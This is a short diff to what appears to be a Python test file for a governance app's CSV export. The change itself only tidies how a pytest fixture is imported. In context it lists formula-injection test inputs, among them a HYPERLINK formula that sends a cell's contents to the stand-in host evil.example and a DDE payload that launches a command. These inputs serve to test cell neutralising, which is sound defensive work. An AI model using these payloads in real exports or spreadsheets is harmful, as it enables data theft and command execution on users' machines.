@@ -17,8 +17,10 @@ import streamlit as st
 from governance import services as sv
 from governance.csvfiles import FORMULA_STARTS, neutralise_cell, to_csv
 from governance.queries import pilots as pilots_q
-from tests.apptest_support import PAGE_FILES, ROOT, app, ok, pages_db  # noqa: F401 - fixture
+from tests.apptest_support import PAGE_FILES, ROOT, app, ok, pages_db
 from tests.world import VERY, World
+
+__all__ = ["pages_db"]  # the fixture, imported for pytest
 
 EVIL = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+SUM(1,1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)",
         "\t=1+1", "\r=1+1"]
